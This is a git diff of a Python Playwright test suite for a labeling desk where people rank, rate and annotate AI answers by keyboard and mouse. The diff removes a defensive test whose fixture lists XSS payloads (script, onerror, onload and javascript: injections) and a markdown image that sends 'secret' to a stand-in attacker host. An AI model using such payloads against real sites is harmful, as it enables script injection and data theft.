@@ -1,139 +1,156 @@
-"""The labeling page in a real Chromium against the real routes and a real Redis."""
+"""The labeling page in a real Chromium against the real routes and a real Redis: answering items."""
 
-import time
 from typing import TYPE_CHECKING
 
 import pytest
 
-from feedback import demonstrations, labels, leases
-from feedback.records import Label
+from feedback import demonstrations, leases
+from tests.serve.pages.desk import (
+    FOCUSED,
+    TEXTS,
+    open_desk,
+    order_on_screen,
+    press,
+    ranks,
+    ready,
+    taken,
+    texts_on_screen,
+    wait_for_labels,
+)
 
 if TYPE_CHECKING:
-    from playwright.sync_api import Page, Route
-
     from tests.serve.pages.conftest import Site, Watched
 
 pytestmark = [pytest.mark.redis, pytest.mark.browser]
-TEXTS = ["Bob lives in York.", "I do not know.", "Bob lives in Paris.", "Go away."]
+
+NO_MOUSE = """
+window.mouse = 0;
+for (const name of ["pointerdown", "mousedown", "mousemove", "touchstart", "wheel"])
+  addEventListener(name, () => (window.mouse += 1), true);
+"""
 
 
-def taken(site: "Site") -> list[Label]:
-    return [label for _, label in labels.read(site.ledger)]
-
-
-def wait_for_labels(site: "Site", count: int) -> list[Label]:
-    deadline = time.monotonic() + 15
-    while labels.count(site.ledger) < count:
-        assert time.monotonic() < deadline, f"{labels.count(site.ledger)} of {count} labels"
-        time.sleep(0.05)
-    return taken(site)
-
-
-def texts_on_screen(page: "Page") -> list[str]:
-    found: list[str] = page.eval_on_selector_all(".card .text", "nodes => nodes.map(node => node.textContent)")
-    return found
-
-
-def press(page: "Page", *keys: str) -> None:
-    for key in keys:
-        page.keyboard.press(key)
-
-
-def test_five_items_are_ranked_by_keyboard_alone(site: "Site", watched: "Watched") -> None:
-    for number in range(5):
+def test_twenty_items_are_answered_by_keyboard_alone(site: "Site", watched: "Watched") -> None:
+    for number in range(20):
         site.comparison(TEXTS, prompt=f"Question {number}")
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    expected = {}
-    for number in range(5):
+    watched.page.add_init_script(NO_MOUSE)
+    page = open_desk(site, watched)
+    # York first, then the honest one, Paris and rudeness tied last
+    place, rating = dict(zip(TEXTS, "1233", strict=True)), dict(zip(TEXTS, "7411", strict=True))
+    for number in range(20):
         page.wait_for_selector(f"#messages:has-text('Question {number}')")
-        shown = texts_on_screen(page)
-        assert sorted(shown) == sorted(TEXTS)
-        # York first, then the honest one, Paris and rudeness tied last
-        order = {TEXTS[0]: "1", TEXTS[1]: "2", TEXTS[2]: "3", TEXTS[3]: "3"}
-        press(page, *[order[text] for text in shown], "Control+Enter")
-        wait_for_labels(site, number + 1)
-        expected[number] = [[0], [1], [2, 3]]
+        ready(page)
+        assert sorted(texts_on_screen(page)) == sorted(TEXTS)
+        if number % 2:  # ordered directly, in the second step
+            press(page, "Tab", *ranks(page, place))
+        else:  # rated, and the proposed order taken
+            for digit in ranks(page, rating):
+                press(page, digit, "j")
+            press(page, "c")
+        press(page, "Control+Enter")
     page.wait_for_selector("#empty:not([hidden])")
-    found = taken(site)
-    assert [[sorted(group) for group in label.ranking] for label in found] == list(expected.values())
-    assert {label.labeler for label in found} == {"ada"}
-    assert {label.labeler_group for label in found} == {"training"}
-    assert len({label.id for label in found}) == 5
-    page.wait_for_selector("#tally:text-is('ada: 5 today, 5 in all')")
+    found = wait_for_labels(site, 20)
+    assert [[sorted(group) for group in label.ranking] for label in found] == [[[0], [1], [2, 3]]] * 20
+    assert [label.quality for label in found] == [[7, 4, 1, 1], []] * 10
+    assert [label.proposal for label in found] == ["accepted", ""] * 10
+    assert {label.input for label in found} == {"keys"}
+    assert {(label.labeler, label.labeler_group, label.outcome) for label in found} == {("ada", "training", "ranked")}
+    assert len({label.id for label in found}) == len({label.comparison_id for label in found}) == 20
+    assert page.evaluate("window.mouse") == 0
+    page.wait_for_selector("#tally:text-is('20 today')")
 
 
-def test_keys_move_tie_undo_flag_and_rate(site: "Site", watched: "Watched") -> None:
+def test_keys_rate_flag_order_undo_and_note(site: "Site", watched: "Watched") -> None:
     site.comparison(TEXTS)
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
-    current = "[...document.querySelectorAll('.card')].findIndex(c => c.getAttribute('aria-current') === 'true')"
-    press(page, "j", "j", "k")
-    assert page.evaluate(current) == 1
+    page = open_desk(site, watched)
+    press(page, "j", "ArrowDown", "k")
+    assert page.evaluate(FOCUSED) == 1
     press(page, "k", "k", "k")
-    assert page.evaluate(current) == 0
-    press(page, "2")
-    assert page.evaluate(current) == 1, "after a rank the next open card is in focus"
-    press(page, "0")
-    assert page.locator("#order-strip").inner_text().split() == ["A", "B", "C", "D"]
-    press(page, "0")
-    assert "all bad" in page.locator("#order-strip").inner_text()
-    press(page, "z", "z")
-    assert page.locator("#order-strip").inner_text().split()[0] == "A"
-    assert "not ranked" in page.locator("#order-strip").inner_text()
-    press(page, "1", "3", "4")
-    for _ in range(3):
-        press(page, "k")
-    for digit in (7, 6, 5, 4):
-        press(page, f"Shift+Digit{digit}", "j")
-    press(page, "h", "n")
+    assert page.evaluate(FOCUSED) == 0
+    for digit in "7654":
+        press(page, digit, "j")
+    press(page, "e", "q", "q")
+    assert page.locator("#announce").inner_text().endswith("taken back")
+    assert order_on_screen(page) == [["1st", "A"], ["2nd", "B"], ["3rd", "C"], ["4th", "D"]], "proposed"
+    press(page, "Tab", "c", "=")
+    assert page.locator("#announce").inner_text() == "D is now third, tied with C"
+    assert order_on_screen(page) == [["1st", "A"], ["2nd", "B"], ["3rd", "C", "D"]]
+    press(page, "z", "z", "c", "k", "k", "1")
+    assert order_on_screen(page) == [["1st", "A", "B"], ["2nd", "C"], ["3rd", "D"]]
+    press(page, "n")
     page.keyboard.type("D invents j k 1 2 3")
+    press(page, "Escape")
     shown = texts_on_screen(page)
     press(page, "Control+Enter")
     [label] = wait_for_labels(site, 1)
     canonical = [TEXTS.index(text) for text in shown]
-    assert [group for [group] in label.ranking] == [canonical[1], canonical[0], canonical[2], canonical[3]]
+    assert [sorted(group) for group in label.ranking] == [sorted(canonical[:2]), [canonical[2]], [canonical[3]]]
     assert [label.quality[index] for index in canonical] == [7, 6, 5, 4]
-    assert label.flags == {"hallucination": [canonical[3]]}
+    assert (label.flags, label.proposal) == ({"hallucination": [canonical[3]]}, "changed")
     assert label.note == "D invents j k 1 2 3"
+    assert label.display_order == canonical
+    assert (label.guideline_version, label.flag_set_version) == ("1", "1")
     assert 0 < label.active_s < 60
+    assert len(label.read_s) == 4
+    assert all(0 < seconds <= label.total_s for seconds in label.read_s)
 
 
-def test_unfinished_ranking_is_not_sent_and_says_what_is_missing(site: "Site", watched: "Watched") -> None:
+def test_what_is_odd_is_asked_about_once(site: "Site", watched: "Watched") -> None:
     site.comparison(TEXTS)
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
-    press(page, "1", "2", "Control+Enter")
-    page.wait_for_selector(".toast")
-    assert page.locator(".toast").inner_text() == "Still without a rank: C, D."
+    page = open_desk(site, watched)
+    press(page, "7", "j", "2", "j", "2", "j", "2", "Tab", "1", "2", "2", "Control+Enter")
+    words = page.locator(".toast").inner_text()
+    assert "A is rated 7, above D (2), but stands below it." in words
+    assert "Not compared: C." in words
+    assert taken(site) == []
+    press(page, "Control+Enter")
+    [label] = wait_for_labels(site, 1)
+    assert [len(group) for group in label.ranking] == [1, 2]
+
+
+def test_half_rated_or_hardly_ordered_is_refused_in_words(site: "Site", watched: "Watched") -> None:
+    site.comparison(TEXTS)
+    page = open_desk(site, watched)
+    press(page, "Control+Enter")
+    assert page.locator("#obstacle").inner_text() == "Put at least two answers in order."
+    press(page, "5", "Control+Enter")
+    assert page.locator("#obstacle").inner_text() == "Give every answer a rating, or none."
     assert taken(site) == []
 
 
-def test_reload_keeps_the_item_its_lease_and_the_draft(site: "Site", watched: "Watched") -> None:
-    for number in range(2):
-        site.comparison(TEXTS, prompt=f"Question {number}")
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
-    before = texts_on_screen(page)
-    press(page, "1", "2")
-    page.reload()
-    page.wait_for_selector(".card.ranked")
-    assert "Question 0" in page.locator("#messages").inner_text()
-    assert texts_on_screen(page) == before
-    press(page, "j", "j", "3", "4", "Control+Enter")
+@pytest.mark.parametrize(("key", "outcome"), [("0", "all_bad"), ("f", "all_good")])
+def test_a_verdict_on_all_is_one_key(site: "Site", watched: "Watched", key: str, outcome: str) -> None:
+    site.comparison(TEXTS)
+    page = open_desk(site, watched)
+    press(page, key, key, key, "Control+Enter")
     [label] = wait_for_labels(site, 1)
-    assert [group for [group] in label.ranking] == [TEXTS.index(text) for text in before]
+    assert (label.outcome, label.ranking) == (outcome, [[0, 1, 2, 3]])
 
 
-def test_skip_asks_for_a_reason_and_goes_on(site: "Site", watched: "Watched") -> None:
+def test_skip_asks_for_a_reason_and_can_be_taken_back(site: "Site", watched: "Watched") -> None:
     first = site.comparison(TEXTS, prompt="Question 0")
     site.comparison(TEXTS, prompt="Question 1")
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
+    page = open_desk(site, watched)
     press(page, "s", "Escape")
     assert "Question 0" in page.locator("#messages").inner_text()
-    press(page, "s", "3")
+    press(page, "4", "s", "3")
     page.wait_for_selector("#messages:has-text('Question 1')")
+    press(page, "z")
+    page.wait_for_selector("#messages:has-text('Question 0')")
+    assert page.locator("#quality [aria-checked=true]").inner_text() == "4", "the draft is back, too"
+    with page.expect_response("**/skip") as answer:
+        press(page, "s", "3")
+        page.wait_for_selector("#messages:has-text('Question 1')")
+    assert answer.value.request.post_data_json["reason"] == "broken"
     assert leases.lease(site.ledger, "training", "bob").item_id == first.id  # type: ignore[union-attr]
+
+
+def test_report_takes_an_item_from_everybody(site: "Site", watched: "Watched") -> None:
+    site.comparison(TEXTS, prompt="Question 0")
+    page = open_desk(site, watched)
+    press(page, "Shift+Digit1", "3")
+    page.wait_for_selector("#empty:not([hidden])")
+    assert leases.lease(site.ledger, "training", "bob") is None
 
 
 def test_demonstration_is_written_and_sent_by_keyboard(site: "Site", watched: "Watched") -> None:
@@ -145,84 +162,57 @@ def test_demonstration_is_written_and_sent_by_keyboard(site: "Site", watched: "W
     page.keyboard.type("Bob lives in York, in a small house.")
     press(page, "Control+Enter")
     page.wait_for_selector("#empty:not([hidden])")
+    page.wait_for_selector("#tally:text-is('1 today')")
     [(_, found)] = list(demonstrations.read(site.ledger))
     assert (found.prompt_id, found.response) == (prompt.id, "Bob lives in York, in a small house.")
 
 
-def test_submission_whose_answer_is_lost_on_the_way_is_sent_again_and_counts_once(
-    site: "Site", watched: "Watched"
-) -> None:
-    site.comparison(TEXTS)
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
-    submits = 0
-
-    def break_the_line(route: "Route") -> None:
-        nonlocal submits
-        submits += 1
-        if submits == 1:  # never arrives
-            route.abort()
-        elif submits == 2:  # arrives, and its answer does not come back
-            assert route.fetch().status == 200
-            route.abort()
-        else:
-            route.continue_()
-
-    page.route("**/submit", break_the_line)
-    press(page, "1", "1", "2", "2", "Control+Enter")
-    page.wait_for_selector("#saved:has-text('not stored yet')")
-    page.wait_for_selector("#empty:not([hidden])")
-    assert submits == 3
-    assert len(taken(site)) == 1
-
-
-def test_lost_lease_is_told_and_the_draft_waits_for_the_item(site: "Site", watched: "Watched") -> None:
+def test_where_none_is_right_the_labeler_writes_it(site: "Site", watched: "Watched") -> None:
     comparison = site.comparison(TEXTS)
-    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
-    page.wait_for_selector(".card[aria-current=true]")
-    press(page, "1", "2", "3", "4")
-    later = time.time() + 10_000
-    assert leases.expire(site.ledger, now=lambda: later) == 1
+    page = open_desk(site, watched)
+    press(page, "j", "m")
+    page.wait_for_selector("#write-text:focus")
+    second = texts_on_screen(page)[1]
+    assert page.input_value("#write-text") == second
+    press(page, "Control+a")
+    page.keyboard.type("Bob lives in Leeds.")
     press(page, "Control+Enter")
-    page.wait_for_selector(".toast.bad")
-    # the item is open again and comes back to the same person, with the draft
-    page.locator(".card.ranked").nth(3).wait_for()
-    press(page, "Control+Enter")
+    page.wait_for_selector(".toast:has-text('Your answer is stored.')")
+    [(_, found)] = list(demonstrations.read(site.ledger))
+    assert (found.response, found.source, found.comparison_id) == ("Bob lives in Leeds.", "comparison", comparison.id)
+    assert found.based_on == TEXTS.index(second)
+    press(page, "0", "Control+Enter")
+    assert wait_for_labels(site, 1)[0].outcome == "all_bad"
+
+
+def test_offending_words_are_marked_by_keyboard(site: "Site", watched: "Watched") -> None:
+    texts = ["Sm\u0131le \U0001f600\r\n\r\nat Bob, you fool.", "No."]
+    site.comparison(texts)
+    page = open_desk(site, watched)
+    position = next(index for index, text in enumerate(texts_on_screen(page)) if "fool" in text)
+    press(page, *["j"] * position, "h")
+    page.wait_for_selector("#mark-text:focus")
+    press(page, "Control+End", "ArrowLeft", *["Shift+ArrowLeft"] * 4, "Enter")
+    assert page.locator("#spans q").inner_text() == "fool"
+    press(page, "Tab", "1", "2", "Control+Enter")
     [label] = wait_for_labels(site, 1)
-    assert label.comparison_id == comparison.id
+    [span] = label.spans
+    assert texts[span.completion][span.start : span.end] == "fool"
 
 
-HOSTILE = [
-    "<script>window.hit = 1; alert(1)</script>",
-    "<img src=x onerror='window.hit = 1; alert(1)'>",
-    "<svg/onload=alert(1)>",
-    "[x](javascript:alert(1)) ![x](http://attacker.invalid/?q=secret)",
-    "</textarea></p><iframe src='javascript:alert(1)'></iframe>",
-    "{{ 7*7 }} ${alert(1)} \u202egnp.exe <b>bold</b>",
-]
-
-
-def test_hostile_text_is_shown_as_text_and_does_nothing(site: "Site", watched: "Watched") -> None:
-    site.comparison(HOSTILE, prompt=" ".join(HOSTILE))
-    outside: list[str] = []
-    watched.page.on("request", lambda request: outside.append(request.url))
-    page = watched.open(site, "/labeling", site.key("labeler", "<img src=x onerror=alert(1)>"))
-    page.wait_for_selector(".card[aria-current=true]")
-    assert sorted(texts_on_screen(page)) == sorted(HOSTILE)
-    assert page.locator("#messages .text").text_content() == " ".join(HOSTILE)
-    page.wait_for_timeout(300)
-    assert page.evaluate("window.hit") is None
-    assert page.locator("#app script, #app img, #app iframe, #app svg, #app b:not(.group b), #app a").count() == 0
-    assert [url for url in outside if not url.startswith(site.url)] == []
-
-
-def test_wrong_key_is_refused_in_words_and_not_kept(site: "Site", watched: "Watched") -> None:
-    page = watched.page
-    for secret, words in (("ws-labeler-nobody", "no such API key"), (site.key("client", "acme"), "role labeler")):
-        page.goto(f"{site.url}/labeling")
-        page.wait_for_selector("#key:focus")
-        page.keyboard.type(secret)
-        page.keyboard.press("Enter")
-        page.wait_for_selector(f"#sign-in-error:has-text('{words}')")
-        assert page.evaluate("sessionStorage.length") == 0
-        assert page.locator("#app").is_hidden()
+def test_order_is_made_by_mouse_too(site: "Site", watched: "Watched") -> None:
+    site.comparison(TEXTS)
+    page = open_desk(site, watched)
+    for letter in "BAC":
+        page.click(f".chip-letter:text-is('{letter}')")
+    assert order_on_screen(page) == [["1st", "B"], ["2nd", "A"], ["3rd", "C"], ["open", "D"]]
+    page.drag_and_drop(".chip-letter:text-is('D')", "#order li:nth-child(1)")
+    assert order_on_screen(page) == [["1st", "B", "D"], ["2nd", "A"], ["3rd", "C"]]
+    row = page.locator("#order li:nth-child(1)").bounding_box()
+    assert row is not None
+    target = {"x": row["width"] / 2, "y": 2}
+    page.drag_and_drop(".chip-letter:text-is('C')", "#order li:nth-child(1)", target_position=target)  # type: ignore[arg-type]
+    assert order_on_screen(page) == [["1st", "C"], ["2nd", "B", "D"], ["3rd", "A"]]
+    page.click("#submit")
+    [label] = wait_for_labels(site, 1)
+    assert label.input == "mouse"
